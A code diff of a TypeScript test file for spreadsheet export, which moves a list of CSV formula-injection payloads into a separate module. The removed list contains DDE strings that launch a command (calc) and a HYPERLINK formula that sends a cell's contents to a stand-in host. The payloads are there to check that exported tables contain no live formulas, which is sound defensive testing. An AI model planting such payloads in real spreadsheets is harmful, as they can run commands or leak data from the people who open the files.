@@ -6,6 +6,7 @@ import readXlsx from 'read-excel-file/node';
 import { describe, expect, test } from 'vitest';
 import { tableAnswer } from './answer';
 import { beginsFormula, csvCell } from './formula-rules';
+import { payloads, unquoted } from './payloads';
 import { type Cell, type Column, tableOf } from './table';
 
 const about = { locale: 'zh', title: '表', file: 'table' } as const;
@@ -26,37 +27,6 @@ async function csv(rows: Cell[]): Promise<string[][]> {
   const text = await tableAnswer(tableOf(about, column, rows), 'csv').text();
   return parse(text, { bom: true });
 }
-
-/** The ways in which a text becomes a formula somewhere, and some that only look so. */
-const payloads = [
-  '=1+1',
-  '+1',
-  '-1',
-  '@SUM(A1)',
-  '\t=1',
-  '\r=1',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠SUM(1)',
-  "=cmd|'/c calc'!A1",
-  '=HYPERLINK("http://x.example/?"&A1,"看")',
-  '=DDE("cmd";"/C calc";"x")',
-  '  =1',
-  '\u3000=1',
-  '\u00a0=1',
-  '"=1"',
-  "'=1",
-  ';=1',
-  'a;=1',
-  '\ufeff=1',
-  '\u200b@x',
-  '-2+3+cmd|"/C calc"!A0',
-  '=1\n=2',
-];
-
-/** A text as its reader had written it: without the apostrophes that keep it a text. */
-const unquoted = (text: string) => text.replace(/^'/, '').replace(/(?<=[;\t])'(?=[=+\-@＝＋－＠])/gu, '');
 
 describe('an exported table', () => {
   test('holds no formula, whatever a text begins with, and every text comes back', async () => {
